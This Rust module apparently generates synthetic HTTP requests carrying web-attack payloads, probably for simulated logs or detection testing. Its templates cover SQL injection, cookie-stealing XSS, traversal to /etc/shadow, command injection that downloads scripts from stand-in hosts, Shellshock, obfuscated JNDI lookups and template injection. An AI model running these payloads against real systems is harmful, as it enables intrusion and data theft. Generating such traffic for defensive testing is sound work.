//! Attacks by parameter or header: something that a program behind a page would take for more than a value.

use super::super::format::Request;
use super::super::vocabulary::Class;
use super::{Tool, aim, put, word};
use crate::random::Random;
use std::io::Write;

/// Fills in a request and gives the usual size of the page it is aimed at.
pub(super) fn fill(class: Class, tool: &Tool, random: &mut Random, request: &mut Request) -> Option<u64> {
    let mut value = Vec::with_capacity(200);
    match class {
        Class::Shellshock => {
            let paths =
                ["/cgi-bin/status", "/cgi-bin/test.cgi", "/cgi-bin/printenv", "/cgi-sys/entropysearch.cgi", "/"];
            let path = random.pick(&paths);
            request.target.extend_from_slice(path.as_bytes());
            shellshock(random, &mut value);
            let header = if random.chance(0.8) { &mut request.agent } else { &mut request.referer };
            (*header).clone_from(&value);
            return (path == "/").then_some(42_300);
        }
        Class::JndiInjection if random.chance(0.5) => {
            jndi(random, &mut value);
            request.target.push(b'/');
            request.agent.clone_from(&value);
            return Some(42_300);
        }
        Class::PathTraversal if random.chance(0.35) => {
            traversal_path(random, &mut request.target);
            return None;
        }
        Class::SqlInjection => sql(random, &mut value),
        Class::CrossSiteScripting => scripting(random, &mut value),
        Class::PathTraversal => traversal(random, &mut value),
        Class::FileInclusion => inclusion(random, &mut value),
        Class::CommandInjection => command(random, &mut value),
        Class::TemplateInjection => template(random, &mut value),
        Class::JndiInjection => jndi(random, &mut value),
        Class::Deserialization => serialized(random, &mut value),
        _ => return Some(redirect(random, request)),
    }
    let bytes = aim(random, &mut request.target);
    // Climbing paths come in encodings of their own.
    match class {
        Class::PathTraversal => request.target.extend_from_slice(&value),
        _ => put(&mut request.target, &value, tool.encoding),
    }
    Some(bytes)
}

fn sql(random: &mut Random, out: &mut Vec<u8>) {
    let (n, m, w) = (random.range(1, 9999), random.range(1000, 9999), word(random));
    let quote = random.pick(&["", "'", "')", "\"", "'))"]);
    let end = random.pick(&["-- -", "--", "#", "-- ", "/*"]);
    let _ = match random.below(12) {
        0 => write!(out, "{n}{quote} AND {m}={m} AND '{w}'='{w}"),
        1 => write!(out, "{n}' OR '{w}'='{w}' {end}"),
        2 => write!(out, "{n}' OR 1=1 {end}"),
        3 | 4 => {
            let columns = random.range(1, 9);
            let _ = write!(out, "-{n}{quote} UNION ALL SELECT ");
            for i in 0..columns {
                let _ =
                    if i == columns / 2 { write!(out, "CONCAT(0x71,version(),0x71),") } else { write!(out, "NULL,") };
            }
            out.pop();
            write!(out, "{end}")
        }
        5 => write!(out, "{n}{quote} UNION SELECT table_name,{m} FROM information_schema.tables {end}"),
        6 => write!(out, "{n}{quote} AND SLEEP({}) {end}", random.range(3, 9)),
        7 => write!(out, "{n}{quote};WAITFOR DELAY '0:0:{}' {end}", random.range(3, 9)),
        8 => write!(out, "{n}{quote} AND EXTRACTVALUE({m},CONCAT(0x5c,(SELECT database()))) {end}"),
        9 => write!(out, "{n}{quote} AND (SELECT {m} FROM (SELECT(SLEEP({})))a{w}) {end}", random.range(3, 9)),
        10 => write!(out, "{n}{quote};SELECT PG_SLEEP({}) {end}", random.range(3, 9)),
        _ => write!(out, "{n}{quote};DROP TABLE {w}_users {end}"),
    };
    match random.below(6) {
        0 => spaces(out, b"/**/"),
        1 => spaces(out, b"/*!*/"),
        2 => out.iter_mut().enumerate().for_each(|(i, b)| {
            if i % 2 == 0 && !out_of_case(*b) {
                *b ^= 0x20;
            }
        }),
        3 => out.make_ascii_lowercase(),
        _ => {}
    }
}

/// Hexadecimal digits and everything that has no case.
fn out_of_case(b: u8) -> bool {
    !b.is_ascii_alphabetic() || b == b'x'
}

fn spaces(out: &mut Vec<u8>, with: &[u8]) {
    *out = out.iter().flat_map(|&b| if b == b' ' { with.to_vec() } else { vec![b] }).collect();
}

fn scripting(random: &mut Random, out: &mut Vec<u8>) {
    let (n, call) = (random.range(1, 9999), random.pick(&["alert", "prompt", "confirm"]));
    let open = random.pick(&["", "\">", "'>", "</title>", "\"/>", "-->"]);
    let _ = match random.below(10) {
        0 => write!(out, "{open}<script>{call}({n})</script>"),
        1 => write!(out, "{open}<svg/onload={call}({n})>"),
        2 => write!(out, "{open}<img src=x onerror={call}({n})>"),
        3 => write!(out, "{open}<ScRiPt >{call}(document.cookie)</sCrIpT>"),
        4 => write!(out, "{open}<body onload={call}('{}')>", word(random)),
        5 => write!(out, "{open}<iframe src=\"javascript:{call}({n})\"></iframe>"),
        6 => write!(out, "{open}<details open ontoggle={call}({n})>"),
        7 => write!(out, "{open}<script src=//js.{}.example/x.js></script>", word(random)),
        8 => write!(out, "{open}<a href=\"javascript:{call}(document.domain)\">{}</a>", word(random)),
        _ => write!(out, "{open}<input autofocus onfocus={call}({n})>"),
    };
}

const FILES: [&str; 7] =
    ["etc/passwd", "etc/shadow", "proc/self/environ", "etc/hosts", "windows/win.ini", "boot.ini", "WEB-INF/web.xml"];

fn climb(random: &mut Random, out: &mut Vec<u8>, ups: &[&str]) {
    let up = random.pick(ups);
    (0..random.range(3, 10)).for_each(|_| out.extend_from_slice(up.as_bytes()));
    let file = random.pick(&FILES);
    let slash = if up.ends_with('\\') { b'\\' } else { b'/' };
    out.extend(file.bytes().map(|b| if b == b'/' { slash } else { b }));
}

fn traversal(random: &mut Random, out: &mut Vec<u8>) {
    let ups = [
        "../",
        "..%2f",
        "%2e%2e/",
        "%2e%2e%2f",
        "..%252f",
        "%c0%ae%c0%ae/",
        "..\\",
        "..%5c",
        "....//",
        "%252e%252e%252f",
    ];
    climb(random, out, &ups);
    if random.chance(0.15) {
        out.extend_from_slice(b"%00.html");
    }
}

fn traversal_path(random: &mut Random, out: &mut Vec<u8>) {
    out.extend_from_slice(
        random.pick(&["/static/", "/assets/", "/images/", "/", "/theme/META-INF/", "/cgi-bin/"]).as_bytes(),
    );
    climb(random, out, &["../", "..%2f", "%2e%2e/", ".%2e/", "..%c0%af", "%c0%ae%c0%ae/", "..%5c"]);
}

fn inclusion(random: &mut Random, out: &mut Vec<u8>) {
    let (w, n) = (word(random), random.range(1, 99));
    let _ = match random.below(8) {
        0 => write!(out, "http://files.{w}.example/id{n}.txt?"),
        1 => write!(out, "php://filter/convert.base64-encode/resource=index{n}.php"),
        2 => write!(out, "php://input"),
        3 => write!(out, "data://text/plain;base64,PD9waHAgZWNobyAx{n}Oz8+"),
        4 => write!(out, "expect://id"),
        5 => write!(out, "file:///etc/passwd"),
        6 => write!(out, "/proc/self/environ"),
        _ => write!(out, "https://{w}.test/c{n}.txt??"),
    };
}

fn command(random: &mut Random, out: &mut Vec<u8>) {
    let (w, n) = (word(random), random.range(1, 999));
    let what = match random.below(8) {
        0 => "cat /etc/passwd".to_string(),
        1 => "id".to_string(),
        2 => format!("wget http://{w}.example/{n}.sh -O /tmp/{n}"),
        3 => format!("curl http://{w}.test/{n}"),
        4 => "uname -a".to_string(),
        5 => format!("ping -c {} 127.0.0.1", n % 9 + 1),
        6 => format!("nslookup {w}{n}.example"),
        _ => "ls -la /tmp".to_string(),
    };
    let _ = match random.below(6) {
        0 => write!(out, "{n};{what}"),
        1 => write!(out, "{n}|{what}"),
        2 => write!(out, "$({what})"),
        3 => write!(out, "{n}`{what}`"),
        4 => write!(out, "{n} && {what}"),
        _ => write!(out, "{n} || {what} #"),
    };
}

fn template(random: &mut Random, out: &mut Vec<u8>) {
    let (n, m) = (random.range(2, 99), random.range(2, 99));
    let _ = match random.below(8) {
        0 | 1 => write!(out, "{{{{{n}*{m}}}}}"),
        2 => write!(out, "${{{n}*{m}}}"),
        3 => write!(out, "<%= {n}*{m} %>"),
        4 => write!(out, "{{{{config.items()}}}}"),
        5 => write!(out, "{{{{''.__class__.__mro__[{}].__subclasses__()}}}}", n % 3),
        6 => write!(out, "${{T(java.lang.Runtime).getRuntime()}}"),
        _ => write!(out, "{{{{self.__init__.__globals__}}}}"),
    };
}

fn jndi(random: &mut Random, out: &mut Vec<u8>) {
    let (w, n) = (word(random), random.range(1, 9999));
    let scheme = random.pick(&["ldap", "rmi", "dns", "ldaps"]);
    let head = random.pick(&["${jndi:", "${${lower:j}ndi:", "${${::-j}${::-n}${::-d}${::-i}:", "${jn${lower:d}i:"]);
    let _ = write!(out, "{head}{scheme}://{w}.example:1389/{n}}}");
}

fn shellshock(random: &mut Random, out: &mut Vec<u8>) {
    let (w, n) = (word(random), random.range(1, 9999));
    let head = random.pick(&["() { :; };", "() { :;};", "() { _; } >_[$($())] {", "() { foo; };"]);
    let _ = match random.below(4) {
        0 => write!(out, "{head} echo; /bin/bash -c \"echo {w}{n}\""),
        1 => write!(out, "{head} /usr/bin/wget http://{w}.example/{n}"),
        2 => write!(out, "{head} echo Content-Type: text/plain; echo; /bin/cat /etc/passwd"),
        _ => write!(out, "{head} /bin/ping -c 1 {w}.test"),
    };
    if out.windows(2).any(|w| w == b"] ") || head.ends_with("] {") {
        out.extend_from_slice(b"; }");
    }
}

fn serialized(random: &mut Random, out: &mut Vec<u8>) {
    let (w, n) = (word(random), random.range(1, 99));
    let _ = match random.below(5) {
        0 => write!(out, "O:{}:\"{w}\":1:{{s:4:\"data\";s:2:\"{n}\";}}", w.len()),
        1 => write!(out, "a:1:{{i:0;O:8:\"stdClass\":1:{{s:1:\"x\";i:{n};}}}}"),
        2 => write!(out, "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA{n}UH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg"),
        3 => write!(out, "aced0005737200116a6176612e7574696c2e48617368{n:04x}"),
        _ => write!(out, "AAEAAAD/////AQAAAAAAAAAMAgAAA{n}lTeXN0ZW0"),
    };
}

fn redirect(random: &mut Random, request: &mut Request) -> u64 {
    let w = word(random);
    let parameter = random.pick(&["next", "url", "redirect", "return", "goto", "dest"]);
    let _ = write!(request.target, "/connexion?{parameter}=");
    let _ = match random.below(5) {
        0 => write!(request.target, "//{w}.example/%2f.."),
        1 => write!(request.target, "https%3A%2F%2F{w}.example%2Flogin"),
        2 => write!(request.target, "http://{w}.test/"),
        3 => write!(request.target, "/%5c{w}.example"),
        _ => write!(request.target, "%2F%2F{w}.example%2F"),
    };
    12_900
}
